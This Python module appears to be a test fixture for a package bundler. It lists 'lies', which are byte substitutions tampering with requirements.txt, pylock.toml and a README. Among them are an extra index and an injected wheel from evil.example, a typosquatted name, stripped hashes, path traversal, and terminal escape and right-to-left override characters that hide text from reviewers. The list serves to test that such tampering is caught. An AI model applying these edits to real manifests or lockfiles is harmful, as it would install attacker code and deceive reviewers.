"""What a packer may sign for reviewers in place of what it signs for machines."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, kw_only=True, slots=True)
class Lie:
    """What a file that people or other installers read says in place of the truth."""

    file: str
    old: bytes
    new: bytes


LIES = {
    "another version": Lie(file="requirements.txt", old=b"demo==1.0", new=b"demo==6.6"),
    "another digest": Lie(file="requirements.txt", old=b"sha256:", new=b"sha256:00"),
    "another project": Lie(file="requirements.txt", old=b"demo==", new=b"dem0=="),
    "an index beside the wheels": Lie(file="requirements.txt", old=b"demo==", new=b"--index-url https://evil.example/simple\ndemo=="),
    "no digest": Lie(file="requirements.txt", old=b" --hash=", new=b" # --hash="),
    "one more": Lie(file="requirements.txt", old=b"demo==", new=b"evil @ https://evil.example/evil-1.0-py3-none-any.whl\ndemo=="),
    "a line end of another system": Lie(file="requirements.txt", old=b"\n", new=b"\r\n"),
    "another version in the pylock": Lie(
        file="pylock.toml", old=b'version = "1.0"\n\n[[packages.w', new=b'version = "6.6"\n\n[[packages.w'
    ),
    "another size": Lie(file="pylock.toml", old=b"size = ", new=b"size = 1"),
    "a URL": Lie(file="pylock.toml", old=b'path = "../../wheels/', new=b'url = "https://evil.example/'),
    "a path elsewhere": Lie(file="pylock.toml", old=b"../../wheels/", new=b"../../../../tmp/"),
    "another Python": Lie(file="pylock.toml", old=b'requires-python = "==', new=b'requires-python = "!='),
    "another digest in the pylock": Lie(file="pylock.toml", old=b'sha256 = "', new=b'sha256 = "0'),
    "another bundle": Lie(file="README.txt", old=b"acme-web 2026.11\n", new=b"acme-web 2026.12\n"),
    "another target": Lie(file="README.txt", old=b"cp3", new=b"cp9"),
    "a target more": Lie(file="README.txt", old=b"2026.11\n", new=b"2026.11\ncp399-win_amd64\n"),
    "what a terminal obeys": Lie(file="README.txt", old=b"2026.11\n", new=b"2026.11\n\x1b[2J\x1b[Hverified\n"),
    "what no terminal shows": Lie(file="README.txt", old=b"2026.11\n", new="2026.11\n\u202e\n".encode()),
}
